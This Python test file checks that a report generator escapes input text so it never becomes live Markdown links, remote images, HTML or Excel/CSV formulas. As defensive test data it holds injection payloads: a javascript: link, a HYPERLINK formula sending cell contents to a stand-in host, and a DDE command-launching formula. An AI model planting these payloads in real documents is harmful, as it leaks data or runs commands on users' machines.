"""Text from the inputs never becomes code: not a link, image or HTML on a page, not a formula
in tables.xlsx or in a CSV opened in Excel (issue 12 §3).

Fast tests check the helpers (core/markup.py, the workbook and CSV writers); one end-to-end test
(marked e2e) runs the fixture district with hostile names, vision, objectives, SWOT and `source`
in a temporary project and scans every page, the workbook and the CSVs.
"""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest
import yaml

from helpers import ROOT

FIX = ROOT / "tests" / "fixtures"

LINK = "[clic](javascript:alert(3))"
IMAGE = "![p](http://e.vil/pixel.png)"
FORMULA = '=HYPERLINK("http://e.vil/?"&A1,"clic")'
DDE = "=cmd|' /C calc'!A0"

# A link or source that runs script or reaches another site (pages are self-contained): an href/src
# whose value starts with javascript:, http(s): or //. Input text inside an escaped attribute
# value (the alt text of a chart names the district) is text, not a URL.
BAD_TAG = re.compile(r"<[^>]*\s(src|href)\s*=\s*[\"']?\s*(javascript:|https?:|//)[^>]*>", re.I | re.S)


def _render(markdown: str) -> str:
    """What nbconvert makes of a Markdown output (the HTML pages of a run)."""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    return markdown2html_mistune(markdown)


# --------------------------------------------------------------------------- helpers (fast)


@pytest.mark.parametrize("text", [LINK, IMAGE, "<img src=http://e.vil/x.png>", "see http://e.vil/a",
                                  "<script>alert(1)</script>", "# heading\n- item", "*a* _b_ `c` $x$"])
def test_literal_renders_to_the_same_characters_and_no_markup(text):
    from propilas.core.markup import literal

    out = _render(f"**Name:** {literal(text)}")
    assert not BAD_TAG.search(out), out
    assert "<a " not in out and "<img" not in out and "<script" not in out and "<h1" not in out, out
    import html

    shown = html.unescape(re.sub(r"<[^>]+>", "", out)).strip()
    assert shown == "Name: " + " ".join(text.split()), shown  # literal, line breaks as spaces


def test_without_literal_the_same_text_is_a_link_and_an_image():
    """The failing behaviour before the fix: html.escape alone leaves Markdown live."""
    import html

    assert 'href="javascript:alert(3)"' in _render(html.escape(LINK))
    assert '<img src="http://e.vil/pixel.png"' in _render(html.escape(IMAGE))


def test_spreadsheet_text_follows_owasp():
    from propilas.core.markup import spreadsheet_text

    assert spreadsheet_text(FORMULA) == "'" + FORMULA
    assert spreadsheet_text(DDE) == "'" + DDE
    for s in ("+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert spreadsheet_text(s) == "'" + s
    assert spreadsheet_text("-3.5") == "-3.5" and spreadsheet_text(-3.5) == -3.5
    assert spreadsheet_text("Alto Perú") == "Alto Perú" and spreadsheet_text(None) is None


def test_csv_cells_are_quoted_and_read_back_exactly(tmp_path):
    from propilas.inputs.tableio import atomic_write_csv, read_run_csv

    df = pd.DataFrame({"community_id": ["C1", "C2", "C3", "C4"], "name": [FORMULA, DDE, "NA", "-3.5"],
                       "value": [1.0, -2.5, None, 3.0]})
    atomic_write_csv(df, tmp_path / "t.csv")
    rows = list(csv.reader((tmp_path / "t.csv").open(encoding="utf-8")))
    assert [r[1] for r in rows[1:]] == ["'" + FORMULA, "'" + DDE, "NA", "-3.5"]
    assert [r[2] for r in rows[1:]] == ["1.0", "-2.5", "", "3.0"]  # numbers untouched
    back = read_run_csv(tmp_path / "t.csv", dtype={"community_id": str})
    assert back["name"].tolist() == [FORMULA, DDE, "NA", "-3.5"]
    assert back["value"].isna().tolist() == [False, False, True, False]


def test_workbook_writes_input_text_as_string_cells(tmp_path):
    import openpyxl

    from propilas.inputs.tableio import atomic_write_csv
    from propilas.report.excel_export import export_tables_xlsx

    (tmp_path / "d" / "tables").mkdir(parents=True)
    df = pd.DataFrame({"community_id": ["C1", "C2", "C3"], "name": [FORMULA, DDE, "NA\x07x"],
                       "population": [100, 60, 50]})
    atomic_write_csv(df, tmp_path / "d" / "tables" / "priorities.csv")
    wb = openpyxl.load_workbook(export_tables_xlsx(tmp_path, "d", "en"))
    formulas = [(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    ws = wb["priorities"]
    assert [c.value for c in ws["B"]][1:] == [FORMULA, DDE, "NA\ufffdx"]
    assert all(c.data_type == "s" for c in ws["B"])
    assert [c.value for c in ws["C"]][1:] == [100, 60, 50]


# --------------------------------------------------------------------------- a run (e2e)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    from propilas.run.batch import run_batch
    from propilas.run.runner import RunConfig

    base = tmp_path_factory.mktemp("hostile")
    params, data, out = base / "params", base / "data" / "hostile", base / "out"
    params.mkdir()
    shutil.copy(FIX / "params" / "defaults.yaml", params / "defaults.yaml")
    p = yaml.safe_load((FIX / "params" / "fixture.yaml").read_text(encoding="utf-8"))
    p.update(district="hostile", name=f"Distrito {LINK}", province=IMAGE)
    p["workshop"]["vision"] = f"{LINK} {IMAGE} <img src=http://e.vil/v.png>"
    p["workshop"]["objectives"] = [f"{LINK}", "<a href='http://e.vil'>x</a>"]
    p["workshop"]["swot"]["strengths"] = [IMAGE]
    (params / "hostile.yaml").write_text(yaml.safe_dump(p, allow_unicode=True, sort_keys=False), encoding="utf-8")
    shutil.copytree(FIX / "data" / "fixture", data)
    comm = pd.read_csv(data / "communities.csv", dtype=str, keep_default_na=False)
    comm["name"] = [LINK, FORMULA, IMAGE]
    comm.loc[1, "source"] = "[s](javascript:alert(2)) http://e.vil/src"
    comm.to_csv(data / "communities.csv", index=False)
    systems = pd.read_csv(data / "water_systems.csv", dtype=str, keep_default_na=False)
    systems.loc[0, "name"] = DDE
    systems.to_csv(data / "water_systems.csv", index=False)
    cfg = RunConfig.create(root=ROOT, out_dir=out, params_dir=params, data_dir=base / "data")
    manifest = run_batch(["hostile"], cfg, workers=1, show_progress=False)
    return manifest, out


@pytest.mark.e2e
def test_no_page_of_a_run_turns_input_text_into_links_images_or_formulas(hostile_run):
    import openpyxl

    manifest, out = hostile_run
    assert manifest["districts"]["hostile"]["status"] == "completed", manifest["districts"]["hostile"]
    pages = sorted(out.rglob("*.html"))
    assert len(pages) >= 10
    bad = []
    for page in pages:
        text = page.read_text(encoding="utf-8")
        for mt in BAD_TAG.finditer(text):
            bad.append(f"{page.relative_to(out)}: {mt.group(0)[:160]}")
    assert not bad, "input text became a link or remote image:\n" + "\n".join(bad[:20])
    report = (out / "hostile" / "report.html").read_text(encoding="utf-8")
    assert "clic" in report and "pixel.png" in report  # shown, as text
    wb = openpyxl.load_workbook(out / "hostile" / "tables.xlsx")
    formulas = [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == [], formulas[:5]
    assert FORMULA in [c.value for ws in wb for row in ws.iter_rows() for c in row]
    for path in (out / "hostile" / "tables").glob("*.csv"):
        for row in csv.reader(path.open(encoding="utf-8")):
            live = [c for c in row if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c))]
            assert not live, f"{path.name}: cells a spreadsheet would run: {live}"


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False
